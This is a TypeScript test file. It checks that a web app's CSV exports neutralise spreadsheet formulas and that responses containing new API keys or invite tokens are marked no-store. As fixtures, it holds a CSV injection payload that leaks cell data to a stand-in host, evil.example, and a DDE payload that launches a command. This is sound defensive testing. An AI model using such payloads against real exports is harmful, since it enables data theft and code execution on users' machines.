// Both CSV exports escape cells a spreadsheet would run as formulas, and answers that carry a
// secret shown once (a new API key, an invitation token) — like every API answer — are `no-store`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestWorkspace, startTestServer, type TestServer, type TestWorkspace } from '../server/support';

const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

describe('exports and secrets', () => {
  let test: TestServer;
  let workspace: TestWorkspace;
  beforeAll(async () => {
    test = await startTestServer('exports_secrets');
    workspace = await createTestWorkspace(test);
  });
  afterAll(async () => test.close());

  const trpc = (method: 'GET' | 'POST', procedure: string, input: unknown) =>
    test.server.app.inject({
      method,
      url:
        method === 'GET'
          ? `/trpc/${procedure}?input=${encodeURIComponent(JSON.stringify(input))}`
          : `/trpc/${procedure}`,
      headers: { authorization: `Bearer ${workspace.fullKey}`, 'content-type': 'application/json' },
      ...(method === 'POST' ? { payload: JSON.stringify(input) } : {}),
    });
  const data = <T>(response: { json<R>(): R }) => response.json<{ result: { data: T } }>().result.data;

  it('escapes a formula in stats.csv and in analytics.exportCsv', async () => {
    const graph = {
      nodes: [
        { id: 'trigger', type: 'core.trigger.event', data: { config: { event: 'joined' }, label: formula } },
        { id: 'end', type: 'core.end', data: { label: '@cmd|" /C calc"!A0' } },
      ],
      edges: [{ id: 'e1', source: 'trigger', sourceHandle: 'out', target: 'end' }],
    };
    const { id: journeyId } = data<{ id: string }>(await trpc('POST', 'journeys.create', { name: 'Formula', graph }));
    expect((await trpc('POST', 'journeys.publish', { journeyId })).statusCode).toBe(200);

    const download = await test.server.app.inject({
      method: 'GET',
      url: `/v1/journeys/${journeyId}/stats.csv`,
      headers: { authorization: `Bearer ${workspace.fullKey}` },
    });
    const exported = data<{ csv: string }>(await trpc('GET', 'analytics.exportCsv', { journeyId })).csv;
    for (const csv of [download.body, exported]) {
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
      expect(csv).toContain(`"'@cmd|"" /C calc""!A0"`);
      expect(csv).not.toMatch(/(^|,)"?[=@]/m);
    }
    expect(download.headers['cache-control']).toBe('no-store');
  });

  it('marks answers carrying a clear key or token no-store', async () => {
    const created = await trpc('POST', 'apiKeys.create', { name: 'shown once', scope: 'ingest' });
    expect(data<{ key: string }>(created).key).toMatch(/^wf_/);
    expect(created.headers['cache-control']).toBe('no-store');
    const rotated = await trpc('POST', 'apiKeys.rotate', { id: data<{ id: string }>(created).id });
    expect(data<{ key: string }>(rotated).key).toMatch(/^wf_/);
    expect(rotated.headers['cache-control']).toBe('no-store');
    const invited = await trpc('POST', 'members.invite', { email: 'new@example.com', role: 'editor' });
    expect(data<{ token: string }>(invited).token).toEqual(expect.any(String));
    expect(invited.headers['cache-control']).toBe('no-store');
    // Every API answer, reads included; the web app's own files are not concerned.
    expect((await trpc('GET', 'apiKeys.list', undefined)).headers['cache-control']).toBe('no-store');
  });
});
